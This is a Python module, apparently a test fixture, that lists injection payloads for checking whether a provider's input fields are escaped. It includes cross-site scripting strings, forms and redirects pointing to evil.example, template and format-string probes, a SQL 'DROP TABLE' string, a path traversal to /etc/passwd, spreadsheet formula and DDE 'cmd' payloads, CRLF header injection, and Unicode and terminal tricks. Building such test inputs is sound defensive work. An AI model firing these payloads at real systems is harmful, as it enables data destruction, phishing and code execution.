"""What somebody could write into a field of the provider to have it run, shown or read as something else."""

from __future__ import annotations

MARK = "injected"
"""What a script that ran would leave on ``window``, and what foreign elements and attributes are called."""

SUM, TEMPLATE_RESULT = "7*191", "1337"
"""What a template that was run would have worked out."""

_RUN = f"window.{MARK}=1"

PAYLOADS = {
    "script": f"<script>{_RUN}</script>",
    "image": f"<img src=x onerror={_RUN}>",
    "double quotes": f'" autofocus onfocus={_RUN} {MARK}="',
    "single quotes": f"' autofocus onfocus={_RUN} {MARK}='",
    "end of everything": f"</title></textarea></option></script></svg>--><{MARK}-tag>",
    "vector": f"<svg/onload={_RUN}>",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    "htmx": f'<b hx-get=/account/ hx-trigger=load hx-on:htmx:load="{_RUN}">x</b>',
    "htmx attribute": f'" hx-on:click="{_RUN}" hx-get="/account/" data-{MARK}="',
    "form": f"</form><form action=//evil.example {MARK}><button>Log in</button>",
    "base": "<base href=//evil.example/>",
    "refresh": "<meta http-equiv=refresh content=0;url=//evil.example>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "escaped once": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;b&#62;",
    "backticks": f'`{_RUN}` \\"-{_RUN}-\\"',
    "template": f"{{{{{SUM}}}}} {{% raw %}} {{# x #}}",
    "other templates": f"${{{SUM}}} #{{{SUM}}} <%= {SUM} %> [[{SUM}]]",
    "format string": "%(secret)s %s %n {0.__class__} {secret!r}",
    "address": f"javascript:{_RUN}//",
    "address in disguise": f"JaVaScRiPt:{_RUN}",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "sql": "'; DROP TABLE customer; -- %_\\",
    "path": "../../../../etc/passwd",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "wide formula": "\uff1d1+2",
    "line": "Arc\nlevel=error event=forged",
    "carriage return": "Arc\r\nSet-Cookie: injected=1",
    "separator": "Bay\u2028level=error event=forged\u2029",
    "terminal": "Arc \x1b[2J\x1b[31mred\x1b]0;x\x07\x9b31m",
    "nul": "Arc\x00Bay",
    "right to left": "Arc \u202egnp.exe\u202c \u2066x",
    "invisible": "A\u200br\u200dc\u2060\ufeff\u00ad",
    "stacked": "A" + "\u0301\u0489" * 20,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f Arc",
    "long": "Arc " * 45,
}
"""By what they try."""
